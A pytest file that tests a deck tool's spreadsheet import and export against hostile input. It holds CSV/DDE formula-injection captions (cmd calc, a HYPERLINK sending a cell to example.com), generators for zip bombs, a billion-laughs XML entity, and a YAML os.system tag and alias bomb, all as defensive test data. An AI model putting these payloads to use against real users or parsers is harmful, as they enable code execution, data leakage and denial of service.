"""Spreadsheets as untrusted input (issue 24, items 1-3), through the real commands.

- Export writes text as text: a caption starting with =, +, - or @ is a text cell in an .xlsx
  file and carries an apostrophe in a CSV file, and either comes back through import unchanged.
- A sheet is refused, in bounded time and memory, when it is not a regular file, is larger than
  a sheet of cards, unpacks to more than one (a 1.5 MB workbook holding a 1.5 GB cell, or 1.5 GB
  of blank cells, or a part lying about its size), holds more cells or rows than one, declares an
  XML entity, or is no workbook at all; blank cells within the limits are passed over.
- What is wrong inside a cell (a formula, an invisible character, a YAML tag or an alias bomb in a
  record) is said at the sheet's file, row, column and card, never at a line of deck.yaml.

Every refusal: exit status 2, one 'error:' message, no traceback, the deck folder and the earlier
build byte-identical. The hostile workbooks are written here byte by byte (a deflate stream of a
block repeated, so 1.5 GB of content is a 1.5 MB file made in a moment).
"""

from __future__ import annotations

import csv
import io
import os
import struct
import zipfile
import zlib
from pathlib import Path

import pytest
from badinput import Outcome, Workspace, assert_refused, run_limited, snapshot, workspace

from printgen.editing.sheets.export import export_deck

LIMITS = {"time_limit": 20.0, "memory_mib": 400}
SHEET = "xl/worksheets/sheet1.xml"
GB = 1_000_000_000


# --- the workspaces: Cromwell (captions) and Coppertwaddle (ability records) ---------------------

def _restoring(ws: Workspace):
    """The shared workspace; files of its deck folder a case changes or adds are put back after."""
    original = snapshot(ws.deck)
    yield ws
    for path in sorted(ws.deck.rglob("*"), reverse=True):
        name = str(path.relative_to(ws.deck))
        if path.is_symlink() or (not path.is_dir() and name not in original):
            path.unlink()
        elif path.is_dir() and not any(n.startswith(name + os.sep) for n in original):
            path.rmdir()
    for name, data in original.items():
        if (ws.deck / name).read_bytes() != data:
            (ws.deck / name).write_bytes(data)


@pytest.fixture(scope="module")
def cromwell_ws(tmp_path_factory) -> Workspace:
    ws = workspace(tmp_path_factory.mktemp("sheets"))
    export_deck(str(ws.deck), ws.root / "export.xlsx")
    export_deck(str(ws.deck), ws.root / "export.csv")
    return ws


@pytest.fixture
def ws(cromwell_ws: Workspace):
    yield from _restoring(cromwell_ws)


@pytest.fixture(scope="module")
def copper_ws(tmp_path_factory) -> Workspace:
    ws = workspace(tmp_path_factory.mktemp("abilities"), "coppertwaddle", build_first=False)
    export_deck(str(ws.deck), ws.root / "export.csv")
    export_deck(str(ws.deck), ws.root / "export.xlsx")
    return ws


@pytest.fixture
def copper(copper_ws: Workspace):
    yield from _restoring(copper_ws)


def _import(ws: Workspace, sheet: Path, **limits) -> Outcome:
    return run_limited(["import", ws.deck.name, str(sheet)], ws.root, **(limits or LIMITS))


def _refused_import(ws: Workspace, sheet: Path, **expected) -> Outcome:
    """Import `sheet`; it must be refused as promised, the deck folder left byte for byte."""
    before = snapshot(ws.deck)
    outcome = _import(ws, sheet)
    assert_refused(outcome, ws, file=sheet.name, **LIMITS, **expected)
    assert "nothing was written" in outcome.err
    assert snapshot(ws.deck) == before, "a refused import changed the deck folder"
    return outcome


# --- workbooks written byte by byte ----------------------------------------------------------------

def _deflated(segments: list[tuple[bytes, int]]) -> tuple[bytes, int, int]:
    """A raw deflate stream of the segments (data, times repeated), its CRC and unpacked size. A
    segment is compressed once, its blocks made independent by a full flush, and repeated."""
    body, crc, size = [], 0, 0
    for data, times in segments:
        group = max(1, min(times, 1_000_000 // max(1, len(data))))     # about 1 MB a block
        whole, rest = divmod(times, group)
        for piece, count in ((data * group, whole), (data * rest, 1 if rest else 0)):
            if count:
                packer = zlib.compressobj(6, zlib.DEFLATED, -15)
                body.append((packer.compress(piece) + packer.flush(zlib.Z_FULL_FLUSH)) * count)
                for _ in range(count):
                    crc = zlib.crc32(piece, crc)
                size += len(piece) * count
    body.append(zlib.compressobj(6, zlib.DEFLATED, -15).flush())      # the final, empty block
    return b"".join(body), crc, size


def _write_zip(path: Path, parts: dict[str, bytes | list[tuple[bytes, int]]],
               stated: dict[str, int] | None = None) -> Path:
    """A zip of the parts (bytes, or segments for _deflated), each part's unpacked size as stated
    in `stated` (a lie) or its true size."""
    out, central = bytearray(), bytearray()
    for name, content in parts.items():
        body, crc, size = _deflated(content if isinstance(content, list) else [(content, 1)])
        size = (stated or {}).get(name, size)
        encoded = name.encode()
        offset = len(out)
        out += struct.pack("<IHHHHHIIIHH", 0x04034B50, 20, 0, 8, 0, 0x21, crc, len(body), size, len(encoded), 0)
        out += encoded + body
        central += struct.pack("<IHHHHHHIIIHHHHHII", 0x02014B50, 20, 20, 0, 8, 0, 0x21, crc, len(body), size,
                               len(encoded), 0, 0, 0, 0, 0, offset) + encoded
    end = struct.pack("<IHHHHIIH", 0x06054B50, 0, 0, len(parts), len(parts), len(central), len(out), 0)
    path.write_bytes(bytes(out + central + end))
    return path


def _export_parts(ws: Workspace) -> dict[str, bytes]:
    with zipfile.ZipFile(ws.root / "export.xlsx") as book:
        return {name: book.read(name) for name in book.namelist()}


def _with_sheet(ws: Workspace, name: str, middle: list[tuple[bytes, int]], stated: int | None = None) -> Path:
    """The deck's own export with `middle` put in its sheet after the last row: the header and
    every card are still there, so only what was added can be refused."""
    parts: dict = _export_parts(ws)
    head, tail = parts[SHEET].split(b"</sheetData>")
    parts[SHEET] = [(head, 1), *middle, (b"</sheetData>" + tail, 1)]
    return _write_zip(ws.root / name, parts, {SHEET: stated} if stated is not None else None)


def _cells(xml: bytes, times: int) -> list[tuple[bytes, int]]:
    return [(b'<row r="9000">', 1), (xml, times), (b"</row>", 1)]


# --- 1. formulas do not leave with the export ------------------------------------------------------

CAPTIONS = ['=HYPERLINK("http://example.com/?"&A1,"Click")', "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "'=already marked", "\t=tab first"]


def _captions(ws: Workspace) -> dict[str, str]:
    """Give the first cards captions a spreadsheet program would run; card id -> caption."""
    path = ws.deck / "deck.yaml"
    lines = path.read_text(encoding="utf-8").split("\n")
    chosen: dict[str, str] = {}
    for index, line in enumerate(lines):
        if line.startswith("    caption:") and len(chosen) < len(CAPTIONS):
            name = next(lines[i] for i in range(index, 0, -1) if lines[i].startswith("  - name:"))
            caption = CAPTIONS[len(chosen)]
            chosen[name.split(":", 1)[1].strip().lower().replace(" ", "-")] = caption
            escaped = caption.replace("\\", "\\\\").replace('"', '\\"').replace("\t", "\\t")
            lines[index] = f'    caption: "{escaped}"'
    path.write_text("\n".join(lines), encoding="utf-8")
    assert len(chosen) == len(CAPTIONS)
    return chosen


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_an_export_writes_formula_like_captions_as_text_and_imports_them_back_unchanged(ws, suffix):
    chosen = _captions(ws)
    deck_before = (ws.deck / "deck.yaml").read_bytes()
    sheet = ws.root / f"captions{suffix}"
    sheet.unlink(missing_ok=True)
    done = run_limited(["export", ws.deck.name, "-o", str(sheet)], ws.root, **LIMITS)
    assert done.code == 0, done.err
    if suffix == ".xlsx":
        from openpyxl import load_workbook

        sheet_cells = load_workbook(sheet)["cards"]
        header = [c.value for c in sheet_cells[1]]
        seen = {row[0].value: row[header.index("caption")] for row in sheet_cells.iter_rows(min_row=2)}
        for card, caption in chosen.items():
            cell = seen[card]
            assert cell.data_type == "s" and cell.value == caption, (card, cell.data_type, cell.value)
            assert cell.quotePrefix, f"{card}: editing the cell in a spreadsheet program would make it a formula"
        assert all(c.data_type == "s" for row in sheet_cells.iter_rows() for c in row if c.value is not None)
    else:
        rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"), newline="")))
        at = rows[0].index("caption")
        written = {row[0]: row[at] for row in rows[1:]}
        for card, caption in chosen.items():
            assert written[card] == "'" + caption, (card, written[card])
        assert not any(cell.startswith(("=", "+", "@", "\t", "\r")) or (cell.startswith("-") and not
                       cell.lstrip("-").replace(".", "").isdigit()) for row in rows for cell in row)
    back = _import(ws, sheet)
    assert back.code == 0, back.err
    assert "nothing to change" in back.out, back.out
    assert (ws.deck / "deck.yaml").read_bytes() == deck_before


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_caption_typed_with_a_leading_equals_sign_imports_as_that_text(ws, suffix):
    """The README's rule: in a CSV file, an apostrophe in front keeps '=...' as text and is taken
    off; in an .xlsx file a text cell is its text (the apostrophe typed in Excel is its mark)."""
    sheet = ws.root / f"typed{suffix}"
    if suffix == ".csv":
        rows = list(csv.reader(io.StringIO((ws.root / "export.csv").read_text(encoding="utf-8-sig"), newline="")))
        at = rows[0].index("caption")
        henry = next(r for r in rows if r[0] == "henry-viii")
        henry[at] = "'=1+1 is two"
        with sheet.open("w", encoding="utf-8", newline="") as out:
            csv.writer(out).writerows(rows)
    else:
        _typed_in_xlsx(ws, sheet, "henry-viii", "caption", "=1+1 is two", text=True)
    done = _import(ws, sheet)
    assert done.code == 0, done.err
    assert 'caption: "=1+1 is two"' in (ws.deck / "deck.yaml").read_text(encoding="utf-8")


def _typed_in_xlsx(ws: Workspace, target: Path, card: str, column: str, value: str, text: bool = False) -> int:
    """The deck's export with `value` typed into a card's cell (as a formula when it starts with
    '=', unless `text`), saved as `target`; the cell's row."""
    from openpyxl import load_workbook

    book = load_workbook(ws.root / "export.xlsx")
    cells = book["cards"]
    header = [c.value for c in cells[1]]
    row = next(r for r in cells.iter_rows(min_row=2) if r[0].value == card)
    row[header.index(column)].value = value
    if text:
        row[header.index(column)].data_type = "s"
    book.save(target)
    return row[0].row


def test_a_formula_typed_into_a_cell_is_refused_naming_card_row_and_column(ws):
    sheet = ws.root / "formula.xlsx"
    row = _typed_in_xlsx(ws, sheet, "henry-ii", "caption", '=HYPERLINK("http://example.com","Henry")')
    _refused_import(ws, sheet, card="Henry II", says=[f"row {row}", "column 'caption'", "holds a formula (=HYPERLINK("])


# --- 2. a spreadsheet is untrusted input --------------------------------------------------------------

def test_a_small_workbook_holding_a_huge_cell_is_refused_before_it_is_unpacked(ws):
    cell = [(b'<row r="9000"><c r="F9000" t="inlineStr"><is><t>', 1), (b"A" * 1_000_000, 1500),
            (b"</t></is></c></row>", 1)]
    sheet = _with_sheet(ws, "huge-cell.xlsx", cell)
    assert sheet.stat().st_size < 2_000_000
    _refused_import(ws, sheet, says=["unpacks to more than 20 MB", f"{SHEET} alone holds 1.5 GB"])


def test_a_part_that_states_a_small_size_and_holds_a_huge_one_is_refused_as_damaged(ws):
    sheet = _with_sheet(ws, "lying.xlsx", _cells(b"<c/>", 400_000_000 // 4), stated=50_000)
    _refused_import(ws, sheet, says=["cannot be read as an Excel workbook", "damaged"])


def test_a_workbook_of_a_gigabyte_and_a_half_of_blank_cells_is_refused(ws):
    sheet = _with_sheet(ws, "blank-huge.xlsx", _cells(b"<c/>", 1_500_000_000 // 4))
    assert sheet.stat().st_size < 2_000_000
    _refused_import(ws, sheet, says=["unpacks to more than 20 MB"])


@pytest.mark.parametrize("xml, times, says", [
    (b"<c/>", 3_000_000, "more than 1,000,000 cells"),
    (b"</row><row>", 1_200_000, "more than 1,048,576 rows"),
])
def test_millions_of_blank_cells_or_rows_within_the_size_are_refused_quickly(ws, xml, times, says):
    _refused_import(ws, _with_sheet(ws, "blank-many.xlsx", _cells(xml, times)), says=[says])


def test_blank_cells_within_the_limits_are_passed_over(ws):
    sheet = _with_sheet(ws, "blank-some.xlsx", _cells(b'<c s="0"/>', 900_000))
    before = (ws.deck / "deck.yaml").read_bytes()
    done = _import(ws, sheet)
    assert done.code == 0 and "nothing to change" in done.out, done.err
    assert done.seconds < 10 and done.peak_mib < LIMITS["memory_mib"], (done.seconds, done.peak_mib)
    assert (ws.deck / "deck.yaml").read_bytes() == before


@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_more_rows_of_cards_than_a_deck_can_have_are_refused(ws, suffix):
    if suffix == ".xlsx":
        rows = b"".join(b'<row r="%d"><c r="B%d" t="inlineStr"><is><t>Card %d</t></is></c></row>' % (n, n, n)
                        for n in range(100, 6100))
        sheet = _with_sheet(ws, "rows.xlsx", [(rows, 1)])
    else:
        sheet = ws.root / "rows.csv"
        text = (ws.root / "export.csv").read_text(encoding="utf-8-sig")
        sheet.write_text(text + "".join(f",Card {n}\r\n" for n in range(6000)), encoding="utf-8")
    _refused_import(ws, sheet, says=["more than 5,000 rows of cards"])


def test_an_xml_entity_is_refused_before_it_can_expand(ws):
    parts: dict = _export_parts(ws)
    laughs = b'<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa">' + b"".join(
        b'<!ENTITY %s "%s">' % (bytes([98 + k]), (b"&" + bytes([97 + k]) + b";") * 10) for k in range(9)) + b"]>"
    parts[SHEET] = b'<?xml version="1.0"?>' + laughs + parts[SHEET].replace(b"<t>id</t>", b"<t>id&j;</t>", 1)
    sheet = _write_zip(ws.root / "laughs.xlsx", parts)
    _refused_import(ws, sheet, says=["cannot be read as an Excel workbook", "DTD"])


@pytest.mark.parametrize("name, data, says", [
    ("text.xlsx", b"id,name\r\nhenry-viii,Henry VIII\r\n", "not a zip file"),
    ("empty.xlsx", b"", "not a zip file"),
])
def test_a_file_that_is_no_workbook_is_refused(ws, name, data, says):
    sheet = ws.root / name
    sheet.write_bytes(data)
    _refused_import(ws, sheet, says=["cannot be read as an Excel workbook", says])


def test_a_workbook_without_its_workbook_part_is_refused(ws):
    parts = _export_parts(ws)
    del parts["xl/workbook.xml"]
    _refused_import(ws, _write_zip(ws.root / "partless.xlsx", parts), says=["xl/workbook.xml is missing"])


def test_a_csv_larger_than_a_sheet_of_cards_is_refused(ws):
    sheet = ws.root / "large.csv"
    sheet.write_bytes((ws.root / "export.csv").read_bytes() + b"," * 2_100_000)
    _refused_import(ws, sheet, says=["printgen reads a sheet of cards of at most 2 MB"])


def test_a_csv_row_of_a_million_empty_cells_is_read_in_bounded_memory(ws):
    sheet = ws.root / "wide.csv"
    sheet.write_bytes((ws.root / "export.csv").read_bytes() + b"," * 1_000_000 + b"\r\n")
    done = _import(ws, sheet)
    assert done.code == 0 and "nothing to change" in done.out, done.err
    assert done.seconds < 10 and done.peak_mib < LIMITS["memory_mib"], (done.seconds, done.peak_mib)


POSIX_ONLY = pytest.mark.skipif(os.name != "posix", reason="named pipes and /dev/zero are POSIX's")


@POSIX_ONLY
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
@pytest.mark.parametrize("kind", ["named pipe", "link to /dev/zero", "folder"])
def test_a_sheet_that_is_not_a_regular_file_is_refused_without_waiting(ws, suffix, kind):
    sheet = ws.root / f"not-a-file-{kind.split()[0]}{suffix}"
    if kind == "named pipe":
        os.mkfifo(sheet)
    elif kind == "folder":
        sheet.mkdir()
    else:
        sheet.symlink_to("/dev/zero")
    try:
        expected = {"named pipe": "a named pipe", "link to /dev/zero": "a device", "folder": "a folder"}[kind]
        _refused_import(ws, sheet,
                        says=[f"is {expected}, not an ordinary file, so it cannot be read as a sheet of cards"])
    finally:
        sheet.rmdir() if kind == "folder" else sheet.unlink()


@POSIX_ONLY
def test_a_deck_keeping_its_cards_in_a_workbook_reads_it_within_the_same_limits(ws):
    """`cards: cards.xlsx` reads the sheet at every build: the same limits, the earlier PDFs kept."""
    text = (ws.deck / "deck.yaml").read_text(encoding="utf-8")
    (ws.deck / "deck.yaml").write_text(text[:text.index("\ncards:")] + "\ncards: cards.xlsx\n", encoding="utf-8")
    cell = [(b'<row r="9000"><c r="F9000" t="inlineStr"><is><t>', 1), (b"A" * 1_000_000, 1500),
            (b"</t></is></c></row>", 1)]
    (ws.deck / "cards.xlsx").write_bytes(_with_sheet(ws, "huge-cell.xlsx", cell).read_bytes())
    assert_refused(ws.build(**LIMITS), ws, file="cards.xlsx", says=["unpacks to more than 20 MB"], **LIMITS)
    (ws.deck / "cards.xlsx").unlink()
    os.mkfifo(ws.deck / "cards.xlsx")
    assert_refused(ws.build(**LIMITS), ws, file="cards.xlsx", says=["this is a named pipe"], **LIMITS)
    (ws.deck / "cards.xlsx").unlink()
    row = _typed_in_xlsx(ws, ws.deck / "cards.xlsx", "henry-ii", "caption", "=1+1")
    assert_refused(ws.build(**LIMITS), ws, file="cards.xlsx", card="Henry II",
                   says=[f"row {row}", "column 'caption'", "holds a formula (=1+1)"], **LIMITS)


# --- 3. the right file in every message -------------------------------------------------------------

def _csv_with(ws: Workspace, name: str, card: str, column: str, value: str) -> Path:
    rows = list(csv.reader(io.StringIO((ws.root / "export.csv").read_text(encoding="utf-8-sig"), newline="")))
    at = rows[0].index(column)
    row = next(r for r in rows if r[0] == card)
    row[at] = value
    sheet = ws.root / name
    with sheet.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows)
    return sheet


def _row_of(sheet: Path, card: str) -> int:
    rows = list(csv.reader(io.StringIO(sheet.read_text(encoding="utf-8-sig"), newline="")))
    return next(n for n, r in enumerate(rows, start=1) if r[0] == card)


@pytest.mark.parametrize("value, says", [
    ("Crowned at Westminster\x00 in 1509.", "U+0000 (NUL)"),
    ("Crowned at \x1b[31mWestminster", "U+001B (ESC)"),
    ("Crowned \u202eat Westminster", "U+202E (RIGHT-TO-LEFT OVERRIDE)"),
])
def test_an_invisible_character_in_a_cell_is_said_at_its_cell_not_at_deck_yaml(ws, value, says):
    sheet = _csv_with(ws, "hidden.csv", "henry-viii", "caption", value)
    outcome = _refused_import(ws, sheet, card="Henry VIII",
                              says=[f"row {_row_of(sheet, 'henry-viii')}", "column 'caption'", says])
    assert "deck.yaml" not in outcome.err.split("nothing was written")[0]


BOMB = "{" + ", ".join([f"l0: &l0 [{', '.join(['x'] * 9)}]"] + [
    f"l{k}: &l{k} [{', '.join([f'*l{k - 1}'] * 9)}]" for k in range(1, 8)]) + "}"


@pytest.mark.parametrize("value, says", [
    ("{use: !!binary aGVsbG8=, cost: cover_self}", "'!!binary' is a YAML tag"),
    ("!!python/object/apply:os.system ['true']", "is a YAML tag"),
    (BOMB, "repeat values more than 100,000 times"),
    ("{use: ability, cost: &c cover_self, effects: [{do: draw, amount: 1}]}", "names or uses a shared value"),
])
@pytest.mark.parametrize("suffix", [".csv", ".xlsx"])
def test_a_tag_or_alias_in_a_sheets_record_is_said_at_its_cell(copper, suffix, value, says):
    if suffix == ".csv":
        sheet = _csv_with(copper, "record.csv", "father-time", "ability", value)
        row = _row_of(sheet, "father-time")
    else:
        sheet = copper.root / "record.xlsx"
        row = _typed_in_xlsx(copper, sheet, "father-time", "ability", value, text=True)
    outcome = _refused_import(copper, sheet, card="Father Time", says=[f"row {row}", "column 'ability'", says])
    assert "deck.yaml" not in outcome.err.split("nothing was written")[0]
    assert "line 1" not in outcome.err


def test_a_record_in_a_new_row_is_said_at_its_row_and_column(copper):
    rows = list(csv.reader(io.StringIO((copper.root / "export.csv").read_text(encoding="utf-8-sig"), newline="")))
    header = rows[0]
    new = [""] * len(header)
    new[header.index("name")], new[header.index("kind")], new[header.index("power")] = "Zed", "Noble Threlm", "3"
    new[header.index("ability")] = "{use: !!binary aGVsbG8=}"
    sheet = copper.root / "new-row.csv"
    with sheet.open("w", encoding="utf-8", newline="") as out:
        csv.writer(out).writerows(rows + [new])
    _refused_import(copper, sheet, card="Zed", says=[f"row {len(rows) + 1}", "column 'ability'", "'!!binary'"])


# --- issue 24 follow-up: what a cell holds besides a value, said at its cell -------------------------

def _typed_at(ws: Workspace, target: Path, card: str, column: int, value: str) -> tuple[int, int]:
    """The deck's export with `value` typed into a card's row at a column number (1-based; past the
    header's columns: a column with no name), saved as `target`; (row, columns with a name)."""
    from openpyxl import load_workbook

    book = load_workbook(ws.root / "export.xlsx")
    cells = book["cards"]
    row = next(r for r in cells.iter_rows(min_row=2) if r[0].value == card)[0].row
    cells.cell(row=row, column=column, value=value)
    book.save(target)
    return row, cells.max_column


@pytest.mark.parametrize("value, says", [
    ("=1+1", "(a formula, =1+1)"),
    ("#REF!", "(an error, #REF!)"),
    ("some words", "('some words')"),
])
@pytest.mark.parametrize("where", ["next to the named columns", "far beyond them"])
def test_a_formula_or_error_under_no_columns_name_is_refused_as_text_there_is(ws, value, says, where):
    """Text in a column with no name was refused while a formula there was passed over: both (and
    an error value) are refused the same way, at the row and card."""
    from openpyxl import load_workbook

    width = load_workbook(ws.root / "export.xlsx")["cards"].max_column
    sheet = ws.root / "unnamed.xlsx"
    row, _ = _typed_at(ws, sheet, "henry-ii", width + 3 if where.startswith("next") else 300, value)
    _refused_import(ws, sheet, card="Henry II", says=[f"row {row}", "a value in a column with no name in the first "
                                                                    f"row {says}"])


@pytest.mark.parametrize("error", ["#REF!", "#N/A", "#DIV/0!"])
def test_an_error_cell_is_refused_not_imported_as_its_text(ws, error):
    sheet = ws.root / "error.xlsx"
    row = _typed_in_xlsx(ws, sheet, "henry-ii", "caption", error)
    outcome = _refused_import(ws, sheet, card="Henry II", says=[
        f"row {row}", "column 'caption'", f"this cell shows an error ({error}), not a value"])
    assert outcome.err.count("error") >= 2


def test_a_shared_formula_is_said_whole(ws):
    """Excel writes a formula filled down once, the cells below it holding only a mark: their
    message was cut mid-sentence ('holds a formula (= (a formula shared with the cell above ')."""
    import re

    parts: dict = _export_parts(ws)
    xml = parts[SHEET].decode()
    rows = {card: re.search(rf'<c r="A(\d+)"[^>]*><is><t>{card}</t>', xml).group(1) for card in ("henry-i", "stephen")}
    first, second = rows["henry-i"], rows["stephen"]
    xml = re.sub(rf'<c r="F{first}"[^>]*>.*?</c>', f'<c r="F{first}" t="str"><f t="shared" ref="F{first}:F{second}" '
                 f'si="0">B{first}&amp;"!"</f><v>x</v></c>', xml, count=1)
    xml = re.sub(rf'<c r="F{second}"[^>]*>.*?</c>', f'<c r="F{second}" t="str"><f t="shared" si="0"/><v>y</v></c>',
                 xml, count=1)
    parts[SHEET] = xml.encode()
    sheet = _write_zip(ws.root / "shared.xlsx", parts)
    outcome = _refused_import(ws, sheet, says=[
        f"row {first}, card 'Henry I', column 'caption': this cell holds a formula (=B{first}&\"!\"); "
        "type the text itself",
        f"row {second}, card 'Stephen', column 'caption': this cell holds a formula (one shared with the cell above or "
        "beside it); type the text itself"])
    assert "above )" not in outcome.err


def test_a_sheet_of_a_million_formulas_is_refused_in_bounded_time_and_memory(ws):
    """Each formula was one problem, each compared with every other: 55,000 formulas ran past two
    minutes. At most 1,000 are kept, and the message says there were more."""
    sheet = _with_sheet(ws, "formulas.xlsx", [(b"<row>" + b"<c><f>1</f></c>" * 11 + b"</row>", 90_000)])
    outcome = _refused_import(ws, sheet,
                              says=["more than 1,000 problems", "column 'id': this cell holds a formula (=1)",
                                               "printgen stops counting at 1,000"])
    assert outcome.seconds < 10, outcome.seconds


def test_a_csv_cell_past_the_csv_modules_limit_is_said_at_its_cell(ws):
    """A cell over 131,072 characters stopped the csv module itself: 'the file is not a readable CSV
    sheet (field larger than field limit (131072))', with no row, column or card."""
    sheet = _csv_with(ws, "long.csv", "henry-ii", "caption", "x" * 200_000)
    outcome = _refused_import(ws, sheet, card="Henry II", says=[
        f"row {_row_of(ws.root / 'export.csv', 'henry-ii')}", "column 'caption'", "this cell holds 200,000 characters",
        "at most 10,000"])
    assert "field limit" not in outcome.err


def _encrypted_parts(ws: Workspace, path: Path) -> Path:
    """The export with every part marked as encrypted (the zip's own, old password scheme)."""
    data = bytearray(_write_zip(path, _export_parts(ws)).read_bytes())
    for signature, at in ((b"PK\x03\x04", 6), (b"PK\x01\x02", 8)):
        start = 0
        while (start := data.find(signature, start)) >= 0:
            data[start + at] |= 0x1
            start += 4
    path.write_bytes(bytes(data))
    return path


@pytest.mark.parametrize("kind", ["encrypted zip parts", "an encrypted package", "the old .xls format"])
def test_a_password_protected_or_old_format_workbook_is_said_plainly(ws, kind):
    sheet = ws.root / f"locked-{kind.split()[-1]}.xlsx"
    ole = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\0" * 500
    if kind == "encrypted zip parts":
        _encrypted_parts(ws, sheet)
    elif kind == "an encrypted package":      # how Excel saves a workbook with a password: an OLE file
        sheet.write_bytes(ole + "EncryptedInfo".encode("utf-16-le") + b"\0" * 50
                          + "EncryptedPackage".encode("utf-16-le"))
    else:
        sheet.write_bytes(ole + "Workbook".encode("utf-16-le"))
    says = ["the old Excel format (.xls", "save it again as .xlsx"] if "xls" in kind else \
        ["the workbook is password-protected", "save it without a password"]
    outcome = _refused_import(ws, sheet, says=says)
    assert "RuntimeError" not in outcome.err and "ZipInfo" not in outcome.err


def test_a_sheet_decks_warnings_name_the_row_and_column_as_its_errors_do(ws):
    """A deck keeping its cards in a sheet: its build warnings named the card and field but no row."""
    text = (ws.deck / "deck.yaml").read_text(encoding="utf-8")
    (ws.deck / "deck.yaml").write_text(text[:text.index("\ncards:")] + "\ncards: cards.csv\n", encoding="utf-8")
    sheet = _csv_with(ws, "cards.csv", "henry-v", "caption", "Henry V won at Agincourt, " * 14)
    (ws.deck / "cards.csv").write_bytes(sheet.read_bytes())
    outcome = run_limited(["build", ws.deck.name, "--out", str(ws.root / "sheet-out")], ws.root, **LIMITS)
    assert outcome.code == 0, outcome.err
    warned = [line for line in outcome.err.splitlines() if "Henry V'" in line]
    assert warned, outcome.err
    assert all(f"cards.csv, row {_row_of(sheet, 'henry-v')}, card 'Henry V', column 'caption':" in line
               for line in warned), warned


def test_the_readme_says_how_a_leading_equals_sign_survives_the_round_trip():
    """The issue asks the README itself, not only the teacher's guide, to say it: near the guides."""
    from conftest import ROOT

    text = (ROOT / "README.md").read_text(encoding="utf-8")
    guides = text[text.index("## What next"):]
    said = " ".join(guides[:guides.index("\n\n", guides.index("| a teacher |")) + 500].split())
    assert "starts with `=`" in said and "`'=...`" in said and "import takes off" in said, said
